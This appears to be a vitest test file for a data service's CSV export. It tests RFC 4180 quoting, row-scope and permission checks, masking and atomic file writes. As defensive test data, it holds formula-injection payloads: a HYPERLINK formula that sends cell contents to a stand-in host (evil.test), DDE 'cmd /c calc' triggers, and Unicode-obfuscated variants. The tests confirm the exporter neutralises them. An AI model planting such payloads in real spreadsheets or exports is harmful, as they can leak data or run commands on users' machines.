/**
 * CSV export: RFC 4180 quoting, the formula-injection guard, the same row and column rules
 * as the grid, streaming to a temporary file renamed into place, and nothing left behind
 * when writing fails.
 */
import { promises as fs } from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvCell, csvRow } from '../../../../main/data/csv';
import type { DataService } from '../../../../main/data/data-service';
import { expectAppError } from '../../helpers';
import {
  admin,
  analyst,
  duckdb,
  makeTempDir,
  manager,
  principal,
  removeDir,
  SAMPLE,
  startService,
  viewer,
} from './data-fixtures';

describe('csv cells', () => {
  it('quotes per RFC 4180 and guards formulas', () => {
    expect(csvCell(null)).toBe('');
    expect(csvCell(12.5)).toBe('12.5');
    expect(csvCell(-3)).toBe('-3');
    expect(csvCell('plain')).toBe('plain');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
    expect(csvCell('=1+2')).toBe("'=1+2");
    expect(csvCell('+1')).toBe("'+1");
    expect(csvCell('-1')).toBe("'-1");
    expect(csvCell('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(csvCell('\tx')).toBe("'\tx");
    expect(csvCell('\rx')).toBe('"\'\rx"');
    expect(csvCell('=HYPERLINK("http://evil.test","x")')).toBe('"\'=HYPERLINK(""http://evil.test"",""x"")"');
    expect(csvRow(['a', 1, null])).toBe('a,1,\r\n');
  });

  // Spreadsheets skip leading blanks and read full-width signs as their ASCII forms, so a
  // trigger behind them still starts a formula.
  it.each([
    ['leading spaces', '  =1+2'],
    ['a no-break space (U+00A0)', '\u00A0=1+2'],
    ['an em space (U+2003)', '\u2003+1'],
    ['a zero-width space (U+200B)', '\u200B=1+2'],
    ['a zero-width non-joiner (U+200C)', '\u200C-1'],
    ['a zero-width joiner (U+200D)', '\u200D@SUM(A1)'],
    ['a word joiner (U+2060)', '\u2060=1'],
    ['a byte order mark (U+FEFF)', '\uFEFF=1+2'],
    ['an ideographic space (U+3000)', '\u3000=1'],
    ['a line feed then spaces', '\n =1'],
    ['blanks of several kinds', ' \u00A0\u200B\uFEFF =cmd|"/c calc"!A1'],
    ['FULLWIDTH EQUALS SIGN (U+FF1D)', '\uFF1D1+2'],
    ['FULLWIDTH PLUS SIGN (U+FF0B)', '\uFF0B1'],
    ['FULLWIDTH HYPHEN-MINUS (U+FF0D)', '\uFF0D1'],
    ['FULLWIDTH COMMERCIAL AT (U+FF20)', '\uFF20SUM(A1)'],
    ['SMALL EQUALS SIGN (U+FE66)', '\uFE661'],
    ['a space then a full-width sign', ' \uFF1D1'],
  ])('neutralises a formula trigger after %s', (_, text) => {
    const cell = csvCell(text);
    const unquoted = cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell;
    expect(unquoted).toBe(`'${text}`);
  });

  it('leaves text whose first visible character is not a trigger as it is', () => {
    for (const text of ['  plain', '\u00A0name', 'a=b', 'x-1', 'mail@example.com', '\uFF21BC', '\u200Babc']) {
      expect(csvCell(text), JSON.stringify(text)).toBe(text.includes('\n') ? `"${text}"` : text);
    }
    // Numbers stay numbers: a negative amount is not text.
    expect(csvCell(-0.5)).toBe('-0.5');
  });
});

/** Parses RFC 4180 CSV (quoted fields may hold commas, quotes and line breaks). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(field);
      field = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    } else field += c;
  }
  if (field || row.length) rows.push([...row, field]);
  return rows;
}

describe('CSV export', () => {
  let service: DataService;
  let stop: () => Promise<void>;
  let dir: string;
  let out: string;

  beforeAll(async () => {
    dir = await makeTempDir();
    out = path.join(dir, 'out');
    await fs.mkdir(out);
    const csv = path.join(dir, 'notes.csv');
    // Values an attacker could have typed into a source system.
    await duckdb([
      `COPY (SELECT * FROM (VALUES
        (1, 'EMEA', '=HYPERLINK("http://evil.test/?"&A1,"Click")', 'ok'),
        (2, 'EMEA', '+1+cmd|'' /C calc''!A0', 'has, comma'),
        (3, 'EMEA', '-2', 'has "quotes"'),
        (4, 'EMEA', '@SUM(1)', 'two
lines'),
        (5, 'AMER', 'plain', 'Müller ☃'),
        (6, 'EMEA', NULL, '	tab first')
      ) AS t(id, region, note, comment)) TO '${csv}' (HEADER, DELIMITER ',')`,
    ]);
    ({ service, stop } = await startService(
      {
        datasets: [
          {
            id: 'notes',
            name: 'Notes',
            source: { type: 'csv', path: csv },
            key: 'id',
            security: { rowScopes: [{ group: 'Sales-EMEA', column: 'region', values: ['EMEA'] }] },
          },
        ],
      },
      { dir },
    ));
  });
  afterAll(async () => {
    await stop();
    await removeDir(dir);
  });

  it('writes RFC 4180 CSV with formulas neutralised', async () => {
    const file = path.join(out, 'notes.csv');
    const result = await service.exportCsv(admin(), { datasetId: 'notes', filters: [], search: '', sort: [] }, file);
    expect(result).toEqual({ rows: 6, fileName: 'notes.csv' });
    const text = await fs.readFile(file, 'utf8');
    expect(text.startsWith('\uFEFFid,region,note,comment\r\n')).toBe(true);
    const rows = parseCsv(text.slice(1));
    expect(rows).toEqual([
      ['id', 'region', 'note', 'comment'],
      ['1', 'EMEA', '\'=HYPERLINK("http://evil.test/?"&A1,"Click")', 'ok'],
      ['2', 'EMEA', "'+1+cmd|' /C calc'!A0", 'has, comma'],
      ['3', 'EMEA', "'-2", 'has "quotes"'],
      ['4', 'EMEA', "'@SUM(1)", 'two\nlines'],
      ['5', 'AMER', 'plain', 'Müller ☃'],
      ['6', 'EMEA', '', "'\ttab first"],
    ]);
    expect(await fs.readdir(out)).toEqual(['notes.csv']);
  });

  it('applies the same row scope, filters and sort as the grid', async () => {
    const file = path.join(out, 'scoped.csv');
    const result = await service.exportCsv(
      manager(['Sales-EMEA']),
      {
        datasetId: 'notes',
        filters: [{ column: 'id', op: 'gte', value: 2 }],
        search: '',
        sort: [{ column: 'id', direction: 'desc' }],
      },
      file,
    );
    expect(result.rows).toBe(4);
    const ids = parseCsv((await fs.readFile(file, 'utf8')).slice(1))
      .slice(1)
      .map((r) => r[0]);
    expect(ids).toEqual(['6', '4', '3', '2']);
  });

  it('exports the sample masked for an analyst, and streams every row', async () => {
    const file = path.join(out, 'sample.csv');
    const result = await service.exportCsv(analyst(), { datasetId: SAMPLE, filters: [], search: '', sort: [] }, file);
    const rows = parseCsv((await fs.readFile(file, 'utf8')).slice(1));
    expect(result.rows).toBe(rows.length - 1);
    expect(result.rows).toBe(
      (await service.query(admin(), { datasetId: SAMPLE, filters: [], search: '', sort: [], offset: 0, limit: 1 })).total,
    );
    const email = rows[0]!.indexOf('customer_email');
    expect(rows[0]).toContain('margin');
    expect(rows.slice(1).every((r) => /^.\*\*\*@example\./.test(r[email]!))).toBe(true);
  });

  it('refuses users without data.export, and leaves no file', async () => {
    const file = path.join(out, 'denied.csv');
    await expectAppError(
      service.exportCsv(viewer(), { datasetId: SAMPLE, filters: [], search: '', sort: [] }, file),
      'PERMISSION_DENIED',
    );
    await expect(fs.stat(file)).rejects.toThrow();
  });

  it('refuses hidden columns in an export request', async () => {
    const who = principal(['viewer'], ['Sales-EMEA']);
    (who.permissions as string[]).push('data.export');
    await expectAppError(
      service.exportCsv(
        who,
        { datasetId: SAMPLE, filters: [], search: '', sort: [{ column: 'margin', direction: 'asc' }] },
        path.join(out, 'x.csv'),
      ),
      'UNKNOWN_COLUMN',
    );
  });

  it('fails cleanly where it cannot write, leaving no temporary file', async () => {
    await expectAppError(
      service.exportCsv(admin(), { datasetId: 'notes', filters: [], search: '', sort: [] }, path.join(out, 'missing', 'x.csv')),
      'EXPORT_FAILED',
    );
    const before = await fs.readdir(out);
    // An existing file is replaced whole, never half-written.
    const file = path.join(out, 'notes.csv');
    await service.exportCsv(
      admin(),
      { datasetId: 'notes', filters: [{ column: 'id', op: 'eq', value: 1 }], search: '', sort: [] },
      file,
    );
    expect(parseCsv((await fs.readFile(file, 'utf8')).slice(1))).toHaveLength(2);
    expect((await fs.readdir(out)).sort()).toEqual(before.sort());
  });
});
